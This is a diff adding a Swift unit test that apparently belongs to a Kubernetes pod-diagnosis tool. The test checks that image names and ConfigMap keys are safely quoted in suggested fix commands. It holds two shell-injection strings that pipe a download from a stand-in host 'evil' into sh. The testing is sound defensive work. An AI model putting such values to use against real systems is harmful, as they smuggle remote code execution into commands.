@@ -111,4 +111,42 @@ struct HostileTextTests {
         #expect(!again.objects.pods.contains { $0.metadata.name == "stolen" })
         #expect(again.skipped.contains { $0.contains("symbolic link") })
     }
+
+    /// An image name and a key taken from an event message cannot break out of the suggested command.
+    @Test func imageNamesAndKeysAreQuotedInCommands() throws {
+        func pod(_ image: String, waiting: [String: Any]) throws -> Pod {
+            try JSONDecoder().decode(Pod.self, from: JSONSerialization.data(withJSONObject: [
+                "apiVersion": "v1", "kind": "Pod",
+                "metadata": ["name": "web-1", "namespace": "shop", "creationTimestamp": "2026-11-25T13:00:00Z",
+                             "ownerReferences": [["apiVersion": "apps/v1", "kind": "ReplicaSet", "name": "web-5d9f", "uid": "1", "controller": true]],
+                             "labels": ["pod-template-hash": "5d9f"]],
+                "spec": ["containers": [["name": "app", "image": image, "env": [["name": "LEVEL", "valueFrom": ["configMapKeyRef": ["name": "cfg", "key": "level"]]]]]]],
+                "status": ["phase": "Pending", "containerStatuses": [["name": "app", "ready": false, "restartCount": 0, "state": ["waiting": waiting]]]],
+            ] as [String: Any]))
+        }
+        let evil = "web$(curl${IFS}evil|sh)"
+        let image = DiagnosisEngine.diagnose(PodEvidence(pod: try pod(evil, waiting: ["reason": "InvalidImageName", "message": "Failed to apply default image tag"]),
+                                                         now: Date(timeIntervalSince1970: 1_795_000_000)))
+        let key = "lvl'; curl evil|sh; echo '"
+        let config = DiagnosisEngine.diagnose(PodEvidence(pod: try pod("web:1", waiting: [
+            "reason": "CreateContainerConfigError", "message": "couldn't find key \(key) in ConfigMap shop/cfg"]),
+            configMaps: ["cfg": .found(ConfigMap(metadata: ObjectMeta(name: "cfg", namespace: "shop"), data: ["level": "x"]))],
+            now: Date(timeIntervalSince1970: 1_795_000_000)))
+        let commands = (image.findings + config.findings).flatMap(\.fix.commands)
+        #expect(commands.filter { $0.contains("curl") }.count >= 2, "the hostile values reach the commands (quoted): \(commands)")
+        for command in commands {
+            // Outside single quotes there is no $( , backtick, ; or | coming from the values.
+            // Single quotes as the shell reads them; `'\''` is a quote ending, an escaped quote, a quote opening.
+            var inQuotes = false
+            var outside = ""
+            var escaped = false
+            for character in command {
+                if escaped { escaped = false; continue }
+                if !inQuotes && character == "\\" { escaped = true; continue }
+                if character == "'" { inQuotes.toggle(); continue }
+                if !inQuotes { outside.append(character) }
+            }
+            #expect(!outside.contains("$(") && !outside.contains("curl"), "unquoted in: \(command)")
+        }
+    }
 }
